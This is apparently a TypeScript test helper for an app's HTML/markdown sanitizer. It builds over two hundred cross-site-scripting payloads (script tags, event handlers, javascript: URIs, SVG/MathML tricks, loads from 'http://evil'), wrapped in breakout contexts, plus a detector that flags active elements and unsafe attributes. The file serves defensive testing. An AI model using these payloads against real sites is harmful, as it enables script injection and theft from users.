/** Strings that want to become more than text, and a look at a page for any that did. */

/** What would run, fetch, or take the place of something, if it were ever read as HTML. */
const ATTACKS = [
  '<script>window.hit()</script>',
  '<script src=http://evil/x.js></script>',
  '<ScRiPt>window.hit()</sCrIpT>',
  '<scr<script>ipt>window.hit()</scr</script>ipt>',
  '<img src=x onerror=window.hit()>',
  '<img src="http://evil/i.png" srcset="http://evil/s.png 2x">',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<IMG """><SCRIPT>window.hit()</SCRIPT>">',
  '<svg onload=window.hit()>',
  '<svg><script>window.hit()</script></svg>',
  '<svg><animate onbegin=window.hit() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:window.hit()"><text>x</text></a></svg>',
  '<svg><use href="http://evil/u#x"/></svg>',
  '<svg><foreignObject><iframe src="javascript:window.hit()"></iframe></foreignObject></svg>',
  '<math><mtext></mtext><mglyph><style></math><img src=x onerror=window.hit()></style></mglyph></math>',
  '<math href="javascript:window.hit()">x</math>',
  '<iframe src="javascript:window.hit()"></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<object data="javascript:window.hit()"></object>',
  '<embed src="http://evil/e.swf">',
  '<applet code=evil></applet>',
  '<base href="http://evil/">',
  '<meta http-equiv=refresh content="0;url=javascript:window.hit()">',
  '<link rel=stylesheet href=http://evil/c.css>',
  '<style>@import url(http://evil/s.css);*{background:url(http://evil/b)}</style>',
  '<div style="background:url(http://evil/d);position:fixed;inset:0">x</div>',
  '<div style="width:expression(window.hit())">x</div>',
  '<body onload=window.hit()>',
  '<input autofocus onfocus=window.hit()>',
  '<select autofocus onfocus=window.hit()><option>x</select>',
  '<textarea autofocus onfocus=window.hit()></textarea>',
  '<details open ontoggle=window.hit()><summary>x</summary></details>',
  '<video src=http://evil/v poster=http://evil/p onloadstart=window.hit()></video>',
  '<audio src=x onerror=window.hit()></audio>',
  '<marquee onstart=window.hit()>x</marquee>',
  '<form action="javascript:window.hit()"><button>x</button></form>',
  '<button formaction="javascript:window.hit()">x</button>',
  '<isindex type=image src=1 onerror=window.hit()>',
  '<table background="javascript:window.hit()"><tr><td background=http://evil/t>x</table>',
  '<a href="javascript:window.hit()">x</a>',
  '<a href=" java\tscript:window.hit()">x</a>',
  '<a href="java&#x0A;script:window.hit()">x</a>',
  '<a href="data:text/html,<script>window.hit()</script>">x</a>',
  '<a href="vbscript:msgbox(1)" onmouseover=window.hit()>x</a>',
  '<a href="/logout" ping="http://evil/ping" target=_top>x</a>',
  '<a data-commandlinker-command="codemad:new-session" href="#">x</a>',
  '<noscript><p title="</noscript><img src=x onerror=window.hit()>">',
  '<template><img src=x onerror=window.hit()></template>',
  '<!--><img src=x onerror=window.hit()>-->',
  '<![CDATA[<img src=x onerror=window.hit()>]]>',
  '&lt;img src=x onerror=window.hit()&gt;',
  '{{constructor.constructor("window.hit()")()}}${window.hit()}'
] as const;

/** Where such a string breaks out of. */
const AROUND: readonly ((attack: string) => string)[] = [
  attack => attack,
  attack => `"'></textarea></title></style></script>${attack}`,
  attack => `[x](javascript:window.hit()) ![i](http://evil/m.png "${attack}") <${attack}>`,
  attack => `\`\`\`html\n\`\`\`\n${attack}\n\n[r]: javascript:window.hit()\n\n[link][r] \u202e\u001b]8;;http://evil\u0007`
];

/** More than two hundred of them, each once. */
export const HOSTILE: readonly string[] = AROUND.flatMap(around => ATTACKS.map(around));

const FORBIDDEN =
  'script, iframe, frame, object, embed, applet, base, meta, link, style, form:not([class^=codemad-]), math, video, audio, marquee,' +
  ' template, noscript, foreignObject, animate, use, image, isindex, [data-commandlinker-command]';
const ADDRESSES = ['href', 'xlink:href', 'src', 'srcset', 'action', 'formaction', 'data', 'poster', 'background', 'ping'];

/** What in there is more than text; empty where all is well. */
export function alive(host: Element): string[] {
  // What the typesetter says to screen readers is MathML of its own.
  const foreign = [...host.querySelectorAll(FORBIDDEN)].filter(node => !node.matches('mjx-assistive-mml > math'));
  const found = foreign.map(node => node.outerHTML.slice(0, 120));
  for (const node of host.querySelectorAll('*')) {
    for (const { name, value } of node.attributes) {
      const isEvent = name.startsWith('on');
      const isStyle = name === 'style' && /url|expression|@import/i.test(value);
      const isAddress = ADDRESSES.includes(name) && !isHarmless(node, value);
      if (isEvent || isStyle || isAddress) {
        found.push(`${node.localName} ${name}=${value.slice(0, 80)}`);
      }
    }
  }
  return found;
}

/** A link that a person may follow, or a picture that came along. */
function isHarmless(node: Element, value: string): boolean {
  return node.localName === 'a' ? /^(https?|mailto):/.test(value) : /^data:image\/(png|jpeg|gif|webp);/.test(value);
}

/** A copy of a value in which each `§` is another text. */
export function filled<T>(value: T, next: () => string): T {
  return JSON.parse(JSON.stringify(value), (_, part: unknown) => (part === '§' ? next() : part)) as T;
}
